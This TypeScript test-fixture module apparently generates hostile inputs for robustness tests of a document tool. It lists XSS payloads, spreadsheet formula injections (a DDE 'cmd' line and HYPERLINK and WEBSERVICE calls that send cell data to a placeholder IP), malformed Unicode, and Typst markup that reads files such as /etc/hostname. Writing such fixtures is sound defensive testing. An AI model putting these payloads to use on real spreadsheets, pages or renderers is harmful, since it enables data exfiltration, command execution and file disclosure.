import type { Chance } from '../testing/chance.ts'

/** Name of the page's variable that every script of a payload sets. */
export const executed = '__pwned'

const scripts = [
  `<script>window.${executed}=1</script>`,
  `<img src=x onerror="window.${executed}=1">`,
  `<svg/onload=window.${executed}=1>`,
  `<a href="javascript:window.${executed}=1">点此</a>`,
  `<iframe srcdoc="<script>parent.${executed}=1</script>"></iframe>`,
  `<style>@import "http://192.0.2.1/x"</style><base href="http://192.0.2.1/"><p onclick="window.${executed}=1">段</p>`,
  `[点此](javascript:window.${executed}=1) ![图](http://192.0.2.1/x.png)`,
  `<math><mtext><table><mglyph><style><img src=x onerror="window.${executed}=1">`,
] as const

const formulas = [
  '=1+1',
  '=HYPERLINK("http://192.0.2.1/?x="&A1,"点此")',
  `=cmd|' /C calc'!A0`,
  '+1+cmd',
  '-2+3+cmd',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1+1',
  '－1－cmd',
  '＠SUM(A1)',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '"=1+1',
  "'=1+1",
  '=WEBSERVICE("http://192.0.2.1/")',
] as const

const characters = [
  '\u202e左右颠倒\u202c',
  '\u2066隔离\u2069',
  '\u200f\u200e',
  '\u200b\u200c\u200d\ufeff',
  '\ud800',
  '\udc00前',
  '后\ud83d',
  '\u0000',
  '\u0001\u0008\u001b[31m',
  '\u007f\u0080\u009f',
  '\ufffe\uffff',
  '\u{20000}\u{2a6d6}\u{30000}',
  '\u{1f469}\u200d\u{1f469}\u200d\u{1f467}',
  'e\u0301\u0301\u0301\u0301',
  '\u2028\u2029',
  '\ue000\u{f0000}\u{10ffff}',
  'ﷺ',
  '㍿㊙',
  '_x000D__x0000__xFFFF_',
  '&amp;&#0;&lt;]]>',
] as const

/** Typst markup that would read, import, run or break out of what it stands in. */
export const typstMarkup = (secret: string): readonly string[] => [
  `#read("${secret}")`,
  `#import "${secret}": *`,
  `#include "${secret}"`,
  `#image("${secret}")`,
  `#plugin("${secret}")`,
  '#{ while true {} }',
  '#let x = "a" * 100000000',
  '#panic("x")',
  '$ x + y',
  '@label <label>',
  '*粗* _斜_ `码` ```typ #panic() ```',
  '\\#\\u{41}\\',
  '= 标题\n- 项\n+ 项\n/ 词: 义',
  '"] #panic("x") //',
  ']] ) } #eval("1")',
  '// 注释 /* 未完',
  '~ --- -- ... \\ ',
]

/** One of the texts that have broken programs, or several of them in each other. */
export function hostileText(chance: Chance, secret = '/etc/hostname'): string {
  const piece = (): string =>
    chance.oneOf<() => string>([
      () => chance.oneOf(scripts),
      () => chance.oneOf(formulas),
      () => chance.oneOf(characters),
      () => chance.oneOf(typstMarkup(secret)),
      () => chance.oneOf(['决算', '说明', '1,234.56', '万元', ' ', '\n', '\t', '，', '。', '——']),
      () => String.fromCodePoint(chance.below(0x110000)),
    ])()
  if (chance.once(12))
    return chance
      .oneOf(['长', 'A', '=', '\u202e', '(', '#', '{', ' ', '1', '-'])
      .repeat(chance.oneOf([300, 2_001, 20_001]))
  return chance.list(chance.between(1, 5), piece).join('')
}

/** A text of a million characters: names and paragraphs have limits that must be the first to speak. */
export const megabyte = (chance: Chance): string => {
  const piece = hostileText(chance).slice(0, 200) || 'x'
  return piece.repeat(Math.ceil(1_000_000 / piece.length)).slice(0, 1_000_000)
}

/** The text as UTF-8 can carry it: half characters replaced. */
export const wellFormed = (text: string): string => text.replaceAll(/\p{Cs}/gu, '\ufffd')
